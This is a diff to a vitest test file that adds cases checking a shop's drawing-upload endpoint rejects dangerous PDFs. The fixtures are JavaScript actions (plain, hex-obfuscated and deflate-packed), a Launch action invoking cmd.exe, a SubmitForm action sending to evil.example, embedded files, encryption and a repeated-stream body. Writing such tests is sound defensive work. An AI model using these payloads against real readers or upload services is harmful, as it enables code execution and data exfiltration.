@@ -1,4 +1,5 @@
 import { randomUUID } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
 import { sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Enquiry } from '#contract/content/enquiries.ts';
@@ -21,6 +22,13 @@ beforeAll(async () => {
 afterAll(() => shop.close());
 
 const pdf = (body = 'a frame') => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1');
+/** A PDF whose objects are packed. */
+const packedPdf = (objects: string) => {
+  const packed = deflateSync(Buffer.from(objects)).toString('latin1');
+  return pdf(
+    `3 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${packed.length} >> stream\n${packed}\nendstream endobj`,
+  );
+};
 const sendAttachment = (bytes: Buffer, name = 'touring-frame-54.pdf', type = 'application/pdf') =>
   shop.ask('POST', '/enquiries/drawings', formWith(bytes, { name, type, field: 'file' }));
 const form = (more: object = {}) => ({
@@ -201,6 +209,33 @@ describe('a drawing', () => {
       'a WebP',
       () => photograph(40, 30).webp().toBuffer(),
       'plan.pdf is no PDF, JPEG or PNG, whatever its name says. Send PDF, JPEG or PNG.',
+    ],
+    ...(
+      [
+        ['a script', pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
+        ['a script under another spelling', pdf('<< /S /J#61vaScript /J#53 (app.alert(1)) >>')],
+        ['a packed script', packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
+        ['a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
+        ['a form that sends itself', packedPdf('<< /S /SubmitForm /F (https://evil.example) >>')],
+        ['a file within', pdf('<< /Type /Filespec /EF << /F 3 0 R >> /Names << /EmbeddedFiles 4 0 R >> >>')],
+      ] as const
+    ).map(
+      ([what, bytes]) =>
+        [
+          `a PDF with ${what}`,
+          () => bytes,
+          'plan.pdf holds scripts, actions or other files. Please print it to a new PDF, and send that.',
+        ] as [string, () => Buffer, string],
+    ),
+    [
+      'an encrypted PDF',
+      () => pdf('trailer << /Encrypt 5 0 R >>'),
+      'plan.pdf is encrypted, so that nobody can look into it. Please print it to a new PDF, and send that.',
+    ],
+    [
+      'a PDF of nothing but beginnings',
+      () => pdf('stream'.repeat(100_000)),
+      'plan.pdf is packed in a way that nobody can look into. Please print it to a new PDF, and send that.',
     ],
     ['a PDF cut off', () => pdf().subarray(0, -8), 'plan.pdf ends too early: the file is not whole.'],
     [
